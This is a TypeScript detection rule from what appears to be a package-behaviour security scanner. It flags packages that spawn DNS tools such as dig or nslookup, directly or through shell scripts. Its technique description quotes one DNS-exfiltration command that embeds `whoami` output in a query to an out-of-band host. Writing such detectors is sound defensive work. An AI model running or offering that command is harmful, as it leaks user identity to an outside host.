/** dns-tool: runs dig, nslookup, host, drill or the like (or names them in a shell script). */
import { base, grouped, ref, type Rule } from '../rule-kit.js';
import { commandWords, DNS_TOOLS, SHELLS, shellScript } from '../programs.js';

export const dnsToolRule: Rule = {
  id: 'dns-tool',
  description: 'spawns a DNS tool (dig, nslookup, host, drill, …), attempts and shell scripts included',
  severity: 'high',
  technique: 'DNS exfiltration by shelling out to nslookup/dig with data in the query name (dependency-confusion probes of 2021–2023 that run `nslookup $(whoami).<id>.oast.fun`)',
  run(events, phase) {
    const seen = new Set<string>();
    return grouped(phase, this.id, events.flatMap((e) => {
      if (e.kind !== 'exec') return [];
      const name = base(e.path);
      const progs = DNS_TOOLS.has(name) ? [name] : SHELLS.has(name) ? commandWords(shellScript(e.argv) ?? '').filter((p) => DNS_TOOLS.has(p)) : [];
      return progs.flatMap((prog) => {
        const once = `${e.pid}:${prog}`;
        if (seen.has(once)) return [];
        seen.add(once);
        return [{ key: prog, severity: 'high' as const, title: `${phase} runs the DNS tool ${prog}`, ev: ref(e, phase, `exec ${e.path} [${e.argv.join(' ').slice(0, 300)}]${e.ok ? '' : ` (${e.errno})`}`) }];
      });
    }));
  },
};
